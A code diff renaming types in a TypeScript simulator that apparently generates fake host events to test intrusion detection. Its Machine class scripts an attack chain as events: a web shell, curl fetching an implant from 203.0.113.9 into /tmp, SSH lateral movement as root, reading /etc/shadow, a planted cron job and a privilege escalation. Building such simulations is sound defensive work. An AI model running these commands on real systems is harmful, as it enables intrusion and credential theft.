@@ -1,4 +1,10 @@
-import { credentialsOf, O, TestHost, type TestHostOptions, type TestProcess } from '@ringfence/testkit';
+import {
+  credentialsOf,
+  O,
+  SyntheticHost,
+  type SyntheticHostOptions,
+  type SyntheticProcess,
+} from '@ringfence/synthetic';
 
 /** No kernel gives such numbers: a command against one of these processes can't reach a real one. */
 const FIRST_PID = 5_000_000;
@@ -7,7 +13,7 @@ const WEB_USER = 33;
 /** µs between two events of one step */
 const STEP = 20;
 
-export interface MachineOptions extends Pick<TestHostOptions, 'hostId' | 'bootId' | 'run' | 'key'> {
+export interface MachineOptions extends Pick<SyntheticHostOptions, 'hostId' | 'bootId' | 'run' | 'key'> {
   /** from 1: the machine's name and address come of it */
   readonly number: number;
   /** µs since the epoch at which it booted */
@@ -18,12 +24,12 @@ export interface MachineOptions extends Pick<TestHostOptions, 'hostId' | 'bootId
 
 /** A machine that exists only in its events: a web server in a container, a shell for administrators, jobs of cron. */
 export class Machine {
-  readonly host: TestHost;
+  readonly host: SyntheticHost;
   readonly number: number;
   readonly address: string;
-  readonly #sshd: TestProcess;
-  readonly #cron: TestProcess;
-  #web: TestProcess;
+  readonly #sshd: SyntheticProcess;
+  readonly #cron: SyntheticProcess;
+  #web: SyntheticProcess;
   #pid = FIRST_PID;
   #port = 20_000;
   #requests = 0;
@@ -32,7 +38,7 @@ export class Machine {
   constructor({ number, bootedAt, startedAt, ...identity }: MachineOptions) {
     this.number = number;
     this.address = `10.77.${number >> 8}.${number & 0xff}`;
-    this.host = new TestHost({ ...identity, step: STEP, wallOffset: bootedAt, ktime: startedAt - bootedAt });
+    this.host = new SyntheticHost({ ...identity, step: STEP, wallOffset: bootedAt, ktime: startedAt - bootedAt });
     const { host } = this;
     host.user(0, 'root');
     host.user(WEB_USER, 'www-data');
@@ -45,17 +51,17 @@ export class Machine {
     this.#web = this.#serveWeb();
   }
 
-  #serveWeb(): TestProcess {
+  #serveWeb(): SyntheticProcess {
     const server = this.host.fork(this.host.init, { pid: this.#pid++, cgroup: CONTAINER });
     server.credentials = credentialsOf(WEB_USER);
     return this.host.exec(server, '/usr/sbin/nginx', { credentials: server.credentials });
   }
 
-  fork(parent: TestProcess): TestProcess {
+  fork(parent: SyntheticProcess): SyntheticProcess {
     return this.host.fork(parent, { pid: this.#pid++ });
   }
 
-  spawn(parent: TestProcess, path: string, argv?: readonly string[]): TestProcess {
+  spawn(parent: SyntheticProcess, path: string, argv?: readonly string[]): SyntheticProcess {
     const values = { credentials: parent.credentials, ...(argv === undefined ? {} : { argv }) };
     return this.host.exec(this.fork(parent), path, values);
   }
@@ -93,7 +99,7 @@ export class Machine {
   }
 
   /** The web server, which was just started anew, is made to run a shell. What came of the last one is another story. */
-  webShell(): TestProcess {
+  webShell(): SyntheticProcess {
     this.host.exit(this.#web);
     this.#web = this.#serveWeb();
     this.#implants++;
@@ -101,7 +107,7 @@ export class Machine {
   }
 
   /** The shell fetches a program and runs it: what it becomes. */
-  implant(shell: TestProcess): TestProcess {
+  implant(shell: SyntheticProcess): SyntheticProcess {
     const { host } = this;
     const path = `/tmp/.x${this.#implants}`;
     const curl = this.spawn(shell, '/usr/bin/curl', ['curl', '-s', '-o', path, 'http://203.0.113.9/implant']);
@@ -114,30 +120,30 @@ export class Machine {
   }
 
   /** `shell` logs in to another machine: the shell that it gets there. */
-  login(shell: TestProcess, to: Machine): TestProcess {
+  login(shell: SyntheticProcess, to: Machine): SyntheticProcess {
     const port = this.nextPort();
     const client = this.spawn(shell, '/usr/bin/ssh', ['ssh', `root@${to.address}`]);
     this.host.connect(client, to.address, 22, { localAddress: this.address, localPort: port });
     return to.#accept(this.address, port);
   }
 
-  #accept(address: string, port: number): TestProcess {
+  #accept(address: string, port: number): SyntheticProcess {
     this.host.accept(this.#sshd, { address, port }, { address: this.address, port: 22 });
     const session = this.spawn(this.#sshd, '/usr/lib/openssh/sshd-session', ['sshd-session', '-R']);
     return this.spawn(this.fork(session), '/bin/bash', ['-bash']);
   }
 
-  readHashes(shell: TestProcess): void {
+  readHashes(shell: SyntheticProcess): void {
     const cat = this.spawn(shell, '/usr/bin/cat', ['cat', '/etc/shadow']);
     this.host.open(cat, '/etc/shadow');
     this.host.exit(cat);
   }
 
-  plantJob(shell: TestProcess): void {
+  plantJob(shell: SyntheticProcess): void {
     this.host.open(shell, '/etc/cron.d/update', O.WRONLY | O.CREAT);
   }
 
-  becomeRoot(process: TestProcess): void {
+  becomeRoot(process: SyntheticProcess): void {
     this.host.credentials(process, { ...credentialsOf(0), uid: WEB_USER });
     this.host.exec(process, '/opt/shop/backup-helper', {
       argv: ['/opt/shop/backup-helper', '-p'],
